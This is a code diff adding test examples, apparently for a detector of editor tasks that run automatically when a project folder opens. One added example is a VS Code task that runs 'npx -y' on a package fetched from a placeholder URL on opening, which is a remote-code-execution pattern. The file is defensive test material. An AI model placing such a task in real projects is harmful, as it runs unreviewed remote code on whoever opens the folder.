@@ -97,6 +97,10 @@ export const examples: Examples = {
       },
     },
     {
+      name: "a package that is run from an address",
+      files: { ".vscode/tasks.json": taskOnOpening("npx -y https://settings.example/env.tgz") },
+    },
+    {
       name: "a start-up task of a JetBrains editor",
       files: {
         ".idea/startup.xml": `<project version="4">
@@ -148,6 +152,14 @@ export const examples: Examples = {
       why: "A package manager fetches what the manifest names, which other rules look at.",
       files: {
         ".vscode/tasks.json": taskOnOpening("npm install"),
+        "package.json": '{ "name": "site", "version": "1.0.0" }\n',
+      },
+    },
+    {
+      name: "a task that installs packages from a registry of the team",
+      why: "The address names a registry, and the packages are those of the manifest.",
+      files: {
+        ".vscode/tasks.json": taskOnOpening("npm install --registry https://packages.example/"),
         "package.json": '{ "name": "site", "version": "1.0.0" }\n',
       },
     },
